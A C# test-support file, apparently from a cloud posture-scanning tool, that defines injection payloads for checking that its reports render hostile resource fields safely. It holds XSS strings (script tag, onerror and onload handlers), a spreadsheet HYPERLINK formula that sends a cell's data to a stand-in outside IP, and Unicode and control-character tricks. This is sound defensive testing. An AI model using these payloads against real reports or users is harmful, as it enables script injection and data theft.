namespace PostureScan.Reporting.Tests.Support;

/// <summary>What an adversary writes into a mirror's description, name, tags and audit fields to attack a report reader.</summary>
internal static class Payloads
{
    /// <summary>A global that a script from data would set; the browser test checks it never exists.</summary>
    public const string Global = "__posturescanPwned";

    public const string Script = "<script>window.__posturescanPwned=1;alert('pwned')</script>";

    public const string OnError = "<img src=x onerror=\"window.__posturescanPwned=2;alert(2)\">";

    public const string Formula = "=HYPERLINK(\"http://203.0.113.66/leak?d=\"&A1,\"Open ticket\")";

    /// <summary>A description with every payload, Markdown syntax, control characters, a bidi override and a lone surrogate.</summary>
    public const string Description =
        Formula + " " + Script + " " + OnError + " **urgent** [runbook](http://203.0.113.66/) | col \u0007bell\r\nnext \u202Eevil\u202C \uD800lone";

    public const string Actor = "arn:aws:iam::999988887777:user/<svg onload=\"window.__posturescanPwned=3\">";
}
